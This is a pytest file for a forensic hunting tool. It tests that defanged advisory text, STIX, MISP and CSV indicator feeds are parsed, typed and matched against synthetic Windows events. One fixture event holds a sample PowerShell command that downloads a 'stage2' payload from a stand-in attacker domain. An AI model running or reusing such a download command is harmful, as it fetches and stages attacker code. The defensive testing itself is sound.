"""IOC documents as agencies send them (defanged text, STIX 2.1, MISP, CSV) produce hits on events."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

from forensics.hunt.ioc_match import match_iocs
from forensics.hunt.iocs import classify, classify_all, ioc_table, load_ioc_paths, refang

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # tests/casekit.py
from casekit import at, build_case

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SHA = "5f1e1d7a0c8e2b7d4c3b2a1908f7e6d5c4b3a2918f7e6d5c4b3a2918f7e6d5c4"

CERTIN = """\
CERT-In Vulnerability Note / Advisory CIAD-2026-0042
TLP:AMBER
# Indicators of compromise observed in the campaign

IP addresses:
203.0.113[.]45     # C2
198.51.100(.)7

Domains:
update-check[.]evil-cdn[.]example

URLs:
hxxp[:]//files.evil-cdn[.]example/payload/stage2.ps1

SHA-256:
5F1E1D7A0C8E2B7D 4C3B2A1908F7E6D5 C4B3A2918F7E6D5C 4B3A2918F7E6D5C4

File names:
invoice_scan.exe
"""


def _events() -> list[dict[str, Any]]:
    return [
        dict(
            host="WKS01",
            channel=SYSMON,
            event_id=3,
            category="network_connection",
            ts=at(0),
            src_ip="10.0.0.11",
            dst_ip="203.0.113.45",
            DestinationIp="203.0.113.45",
        ),
        dict(
            host="WKS01",
            channel=SYSMON,
            event_id=22,
            category="dns_query",
            ts=at(1),
            QueryName="a.update-check.evil-cdn.example",
        ),
        dict(
            host="WKS01",
            channel=SYSMON,
            event_id=1,
            category="process_creation",
            ts=at(2),
            process_image="C:\\Users\\alice\\Downloads\\Invoice_Scan.exe",
            hash_sha256=SHA,
            process_cmdline="powershell -c iwr http://files.evil-cdn.example/payload/stage2.ps1 -o s.ps1",
        ),
        dict(
            host="DC01",
            channel="Security",
            event_id=4625,
            ts=at(3),
            src_ip="198.51.100.7",
            IpAddress="198.51.100.7",
        ),
        dict(
            host="WKS02",
            channel=SYSMON,
            event_id=3,
            category="network_connection",
            ts=at(4),
            src_ip="10.0.0.12",
            dst_ip="192.0.2.200",
        ),
    ]


def test_refang_and_classify() -> None:
    assert refang("203.0.113[.]45") == "203.0.113.45"
    assert classify("hxxps[:]//Evil[.]Example/a") == ("url", "https://evil.example/a")
    assert classify("D41D8CD9 8F00B204 E9800998 ECF8427E") == ("md5", "d41d8cd98f00b204e9800998ecf8427e")
    assert classify("evil(.)example") == ("domain", "evil.example")
    assert classify("invoice.exe") == ("filename", "invoice.exe")
    assert classify("::ffff:203.0.113.9") == ("ipv4", "203.0.113.9")
    assert classify("not an indicator") is None


def _hits(tmp_path: Path, docs: list[Path]) -> tuple[Any, list[Any]]:
    loaded = load_ioc_paths(docs)
    # every document loads; lines that are not indicators (an advisory's title) are reported apart
    assert all(o.status == "loaded" or "not typed" in o.reason for o in loaded.outcomes), loaded.outcomes
    case = build_case(tmp_path / "case", _events())
    table = ioc_table(loaded.iocs)
    return table, match_iocs(case, table)


def test_defanged_certin_text_list(tmp_path: Path) -> None:
    doc = tmp_path / "cert-in.txt"
    doc.write_text(CERTIN)
    table, findings = _hits(tmp_path, [doc])
    assert sorted(zip(table["type"].to_pylist(), table["value"].to_pylist(), strict=True)) == [
        ("domain", "update-check.evil-cdn.example"),
        ("filename", "invoice_scan.exe"),
        ("ipv4", "198.51.100.7"),
        ("ipv4", "203.0.113.45"),
        ("sha256", SHA),
        ("url", "http://files.evil-cdn.example/payload/stage2.ps1"),
    ]
    assert set(table["tlp"].to_pylist()) == {"amber"}
    hit = {(f.rule_id, f.host) for f in findings}
    assert hit == {
        ("ioc:ipv4:203.0.113.45", "WKS01"),
        ("ioc:ipv4:198.51.100.7", "DC01"),
        ("ioc:domain:update-check.evil-cdn.example", "WKS01"),  # subdomain query and the URL's host
        ("ioc:url:http://files.evil-cdn.example/payload/stage2.ps1", "WKS01"),
        ("ioc:sha256:" + SHA, "WKS01"),
        ("ioc:filename:invoice_scan.exe", "WKS01"),
    }
    assert {f.tlp for f in findings} == {"amber"}
    assert all(f.records for f in findings)


def test_stix_bundle(tmp_path: Path) -> None:
    green = "marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"
    red = "marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1"
    bundle = {
        "type": "bundle",
        "id": "bundle--6f1e3c5a-1d2b-4c3d-8e9f-0a1b2c3d4e5f",
        "objects": [
            {"type": "indicator", "spec_version": "2.1", "id": "indicator--a1", "pattern_type": "stix",
             "pattern": "[ipv4-addr:value = '203.0.113.45'] OR [domain-name:value = 'evil-cdn.example']",
             "valid_from": "2026-01-01T00:00:00Z", "confidence": 85, "object_marking_refs": [green]},
            {"type": "indicator", "spec_version": "2.1", "id": "indicator--a2", "pattern_type": "stix",
             "pattern": f"[file:hashes.'SHA-256' = '{SHA}']", "valid_from": "2026-01-02T00:00:00Z",
             "object_marking_refs": [red]},
            {"type": "indicator", "spec_version": "2.1", "id": "indicator--a3", "pattern_type": "sigma",
             "pattern": "title: x", "valid_from": "2026-01-02T00:00:00Z"},
        ],
    }  # fmt: skip
    doc = tmp_path / "bundle.json"
    doc.write_text(json.dumps(bundle))
    table, findings = _hits(tmp_path, [doc])
    rows = {(r["type"], r["value"]): r for r in table.to_pylist()}
    assert rows[("ipv4", "203.0.113.45")]["confidence"] == 85
    assert rows[("ipv4", "203.0.113.45")]["first_seen"].year == 2026
    tlp = {f.rule_id: f.tlp for f in findings}
    assert tlp["ioc:ipv4:203.0.113.45"] == "green"
    assert tlp["ioc:domain:evil-cdn.example"] == "green"
    assert tlp["ioc:sha256:" + SHA] == "red"
    outcome = load_ioc_paths([doc]).outcomes[0]
    assert "sigma not supported" in outcome.reason  # the sigma-pattern indicator is counted, not lost


def test_misp_event(tmp_path: Path) -> None:
    event = {
        "Event": {
            "info": "Ransomware intrusion", "Tag": [{"name": "tlp:amber"}],
            "Attribute": [
                {"type": "ip-dst", "value": "203.0.113.45", "to_ids": True, "category": "Network activity"},
                {"type": "ip-src", "value": "192.0.2.200", "to_ids": False},
                {"type": "hostname", "value": "update-check.evil-cdn.example", "to_ids": True,
                 "Tag": [{"name": "tlp:red"}]},
            ],
            "Object": [{"name": "file", "Attribute": [
                {"type": "filename|sha256", "value": f"invoice_scan.exe|{SHA}", "to_ids": True,
                 "first_seen": "2026-01-03T10:00:00+05:30"}]}],
        }
    }  # fmt: skip
    doc = tmp_path / "misp.json"
    doc.write_text(json.dumps(event))
    table, findings = _hits(tmp_path, [doc])
    assert ("ipv4", "192.0.2.200") not in set(
        zip(table["type"].to_pylist(), table["value"].to_pylist(), strict=True)
    )
    tlp = {f.rule_id: f.tlp for f in findings}
    assert tlp["ioc:ipv4:203.0.113.45"] == "amber"
    assert tlp["ioc:domain:update-check.evil-cdn.example"] == "red"  # the attribute's own tag wins
    assert "ioc:sha256:" + SHA in tlp and "ioc:filename:invoice_scan.exe" in tlp
    assert not any(f.host == "WKS02" for f in findings)  # to_ids false: not used
    assert "to_ids false" in load_ioc_paths([doc]).outcomes[0].reason


def test_csv_and_bad_documents_reported(tmp_path: Path) -> None:
    csv_doc = tmp_path / "iocs.csv"
    csv_doc.write_text("indicator,type,tlp,confidence\n203.0.113[.]45,ip,TLP:GREEN,70\nnot-a-thing,url,,\n")
    bad = tmp_path / "broken.json"
    bad.write_text("{not json")
    loaded = load_ioc_paths([csv_doc, bad, tmp_path / "missing.txt"])
    status = {Path(o.path).name: o.status for o in loaded.outcomes if o.status != "skipped"}
    assert status == {"iocs.csv": "loaded", "broken.json": "failed", "missing.txt": "failed"}
    untyped = [o for o in loaded.outcomes if o.status == "skipped"]
    assert [(Path(o.path).name, o.count, o.reason) for o in untyped] == [
        ("iocs.csv", 1, "1 line(s) not typed as an indicator: line 3: 'not-a-thing'")
    ]
    assert [(i.type, i.value, i.tlp, i.confidence) for i in loaded.iocs] == [
        ("ipv4", "203.0.113.45", "green", 70)
    ]


def test_long_lists_read_column_wise_like_line_by_line(tmp_path: Path, monkeypatch: Any) -> None:
    from forensics.hunt import iocs as iocs_mod

    lines = ["TLP:GREEN", "# bulk feed"]
    lines += [f"198.51.{i // 250}[.]{i % 250 + 1}" for i in range(1500)]
    lines += [f"host{i}.evil-cdn[.]example" for i in range(600)]
    lines += ["SHA256:", "5F1E1D7A0C8E2B7D 4C3B2A1908F7E6D5 C4B3A2918F7E6D5C 4B3A2918F7E6D5C4"]
    lines += ["File names:", "update.com", "invoice_scan.exe", "hxxp://bad[.]example/x", "not an indicator"]
    doc = tmp_path / "feed.txt"
    doc.write_text("\n".join(lines) + "\n")
    bulk = load_ioc_paths([doc])
    assert bulk.frames, "the column-wise path was not taken"
    monkeypatch.setattr(iocs_mod, "BULK_LINES", 10**9)
    slow = load_ioc_paths([doc])
    assert not slow.frames
    assert ioc_table(bulk.iocs, bulk.frames).equals(ioc_table(slow.iocs, slow.frames))
    assert bulk.outcomes == slow.outcomes
    table = ioc_table(bulk.iocs, bulk.frames)
    kinds = dict(zip(table["value"].to_pylist(), table["type"].to_pylist(), strict=True))
    assert kinds["update.com"] == "filename"  # under "File names:", not a domain
    assert kinds["http://bad.example/x"] == "url"
    assert set(table["tlp"].to_pylist()) == {"green"}


def test_ipv4_ranges_match_with_a_range_join(tmp_path: Path) -> None:
    doc = tmp_path / "ranges.txt"
    doc.write_text("203.0.113[.]0/24\n198.51.100.7/32\n")
    table, findings = _hits(tmp_path, [doc])
    assert sorted(table["type"].to_pylist()) == ["cidr", "ipv4"]
    got = {(f.rule_id, f.host, f.level) for f in findings}
    assert ("ioc:cidr:203.0.113.0/24", "WKS01", "medium") in got
    assert ("ioc:ipv4:198.51.100.7", "DC01", "high") in got


# ---- issue 12 item 5: names that are both a domain and a file name ------------------------------------
AMBIGUOUS_EVENTS = [
    dict(host="WKS01", channel=SYSMON, event_id=22, category="dns_query", ts=at(5), QueryName="afterburst.com"),
    dict(host="WKS01", channel=SYSMON, event_id=22, category="dns_query", ts=at(6), QueryName="www.hostgator.com"),
    dict(host="WKS01", channel=SYSMON, event_id=1, category="process_creation", ts=at(7),
         Image="C:\\Users\\Public\\afterburst.com", process_image="C:\\Users\\Public\\afterburst.com"),
]  # fmt: skip


def _ambiguous_hits(tmp_path: Path, text: str) -> tuple[set[tuple[str, str]], set[str]]:
    tmp_path.mkdir(exist_ok=True)
    doc = tmp_path / "list.txt"
    doc.write_text(text)
    loaded = load_ioc_paths([doc])
    table = ioc_table(loaded.iocs, loaded.frames)
    case = build_case(tmp_path / "case", [dict(e) for e in AMBIGUOUS_EVENTS])
    typed = set(zip(table["type"].to_pylist(), table["value"].to_pylist(), strict=True))
    return typed, {f.rule_id for f in match_iocs(case, table)}


def test_dot_com_names_in_a_plain_list_match_as_domain_and_file_name(tmp_path: Path) -> None:
    typed, hits = _ambiguous_hits(tmp_path, "hostgator[.]com\nafterburst.com\n")
    assert typed == {("domain", "hostgator.com"), ("filename", "hostgator.com"),
                     ("domain", "afterburst.com"), ("filename", "afterburst.com")}  # fmt: skip
    assert {"ioc:domain:afterburst.com", "ioc:domain:hostgator.com", "ioc:filename:afterburst.com"} <= hits


def test_a_heading_says_which(tmp_path: Path) -> None:
    typed, hits = _ambiguous_hits(tmp_path, "Domains:\nhostgator[.]com\nafterburst.com\n")
    assert typed == {("domain", "hostgator.com"), ("domain", "afterburst.com")}
    assert hits == {"ioc:domain:afterburst.com", "ioc:domain:hostgator.com"}
    typed, _ = _ambiguous_hits(tmp_path / "f", "File names:\nafterburst.com\n")
    assert typed == {("filename", "afterburst.com")}


def test_executable_extensions_that_are_no_tld_stay_file_names() -> None:
    assert classify_all("invoice.scr") == [("filename", "invoice.scr")]
    assert classify_all("setup.pif") == [("filename", "setup.pif")]
    assert classify_all("update.zip") == [("domain", "update.zip"), ("filename", "update.zip")]
    assert classify_all("evil.example") == [("domain", "evil.example")]


def test_long_lists_type_ambiguous_names_like_short_ones(tmp_path: Path, monkeypatch: Any) -> None:
    from forensics.hunt import iocs as iocs_mod

    lines = [f"198.51.{i // 250}[.]{i % 250 + 1}" for i in range(2100)] + [
        "afterburst.com",
        "Domains:",
        "x.com",
    ]
    doc = tmp_path / "feed.txt"
    doc.write_text("\n".join(lines) + "\n")
    bulk = load_ioc_paths([doc])
    assert bulk.frames
    monkeypatch.setattr(iocs_mod, "BULK_LINES", 10**9)
    slow = load_ioc_paths([doc])
    table = ioc_table(bulk.iocs, bulk.frames)
    assert table.equals(ioc_table(slow.iocs, slow.frames))
    typed = {(t, v) for t, v in zip(table["type"].to_pylist(), table["value"].to_pylist(), strict=True)
             if not t.startswith("ip")}  # fmt: skip
    assert typed == {("domain", "afterburst.com"), ("filename", "afterburst.com"), ("domain", "x.com")}


def test_tld_file_extensions_are_the_extensions_that_are_tlds() -> None:
    from pathlib import Path as P

    import hypothesis

    from forensics.hunt.iocs import FILE_EXTENSIONS, TLD_FILE_EXTENSIONS

    iana = P(hypothesis.__file__).parent / "vendor" / "tlds-alpha-by-domain.txt"
    tlds = {
        ln.strip().lower() for ln in iana.read_text().splitlines() if ln.strip() and not ln.startswith("#")
    }
    assert FILE_EXTENSIONS & tlds == TLD_FILE_EXTENSIONS


def test_untyped_lines_are_counted_shown_and_printed_by_the_hunt(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from forensics.cli import app

    doc = tmp_path / "advisory.txt"
    doc.write_text("Advisory 42 for hospitals\n203.0.113[.]50\njust words here\n")
    loaded = load_ioc_paths([doc])
    skipped = [o for o in loaded.outcomes if o.status == "skipped"]
    assert [(o.count, o.reason) for o in skipped] == [
        (
            2,
            "2 line(s) not typed as an indicator: line 1: 'Advisory 42 for hospitals'; line 3: 'just words here'",
        )
    ]
    case = build_case(tmp_path / "case", _events())
    case.close()
    res = CliRunner().invoke(app, ["hunt", str(tmp_path / "case"), "--iocs", str(doc), "--no-default-queries",
                                   "--no-default-iocs", "--no-outputs"])  # fmt: skip
    assert res.exit_code == 0, res.output
    assert "2 line(s) not typed as an indicator: line 1: 'Advisory 42 for hospitals'" in res.stderr


def _ioc_table_by_polars(iocs: list[Any], frames: list[Any]) -> Any:
    """What ioc_table returned when it deduplicated and sorted with polars (the definition kept)."""
    import polars as pl
    import pyarrow as pa

    from forensics.hunt.iocs import IOC_SCHEMA

    table = pa.table({f: [list(i.tags) if f == "tags" else getattr(i, f) for i in iocs] for f in IOC_SCHEMA.names},
                     schema=IOC_SCHEMA)  # fmt: skip
    frame = pl.from_arrow(table)
    assert isinstance(frame, pl.DataFrame)
    if frames:
        frame = pl.concat([frame, *(f.cast(frame.schema) for f in frames)], how="vertical")
    frame = frame.with_columns(pl.col("tags").list.join("\x1f").alias("_tags"))
    order = ["type", "value", "source", "raw", "tlp", "confidence", "first_seen", "last_seen", "_tags"]
    frame = frame.unique(subset=order, keep="first").sort(order, nulls_last=True).drop("_tags")
    return frame.to_arrow().cast(IOC_SCHEMA)


def test_ioc_table_keeps_the_first_of_each_indicator_sorted_as_polars_did() -> None:
    """ioc_table (Arrow kernels, no polars import in a hunt) gives the table polars' unique(keep=first)
    + sort(nulls_last) gave, on random indicators with duplicates, nulls, tags and column-wise frames.
    ~250 examples, about 3 s."""
    from datetime import UTC, datetime

    import polars as pl
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from forensics.hunt.iocs import Ioc, _bulk_frame, _Doc

    text = st.sampled_from(["", "a", "b", "B", "é", "a\x1fb", "ü" * 2])
    when = st.none() | st.sampled_from([datetime(2024, 1, d, tzinfo=UTC) for d in (1, 2)])
    ioc = st.builds(
        Ioc,
        type=st.sampled_from(["ipv4", "domain", "md5"]),
        value=text,
        raw=text,
        source=st.sampled_from(["x.txt", "y.txt"]),
        source_sha256=st.sampled_from(["00", "11"]),
        confidence=st.none() | st.sampled_from([0, 50, -1]),
        tlp=st.none() | st.sampled_from(["green", "amber"]),
        first_seen=when,
        last_seen=when,
        tags=st.lists(st.sampled_from(["a", "b", "a\x1fb"]), max_size=2).map(tuple),
    )

    def bulk(rows: list[tuple[str | None, str, str]]) -> Any:
        picked = pl.DataFrame(
            rows, schema={"type": pl.String, "value": pl.String, "raw": pl.String}, orient="row"
        )
        return _bulk_frame(_Doc(path="z.txt", sha256="22"), picked, "red")

    frame = st.lists(st.tuples(st.sampled_from(["md5", "ipv4", None]), text, text), max_size=6).map(bulk)

    @settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(ioc, max_size=12), st.lists(frame, max_size=2))
    def check(iocs: list[Ioc], frames: list[Any]) -> None:
        assert ioc_table(iocs, frames).equals(_ioc_table_by_polars(iocs, frames))

    check()
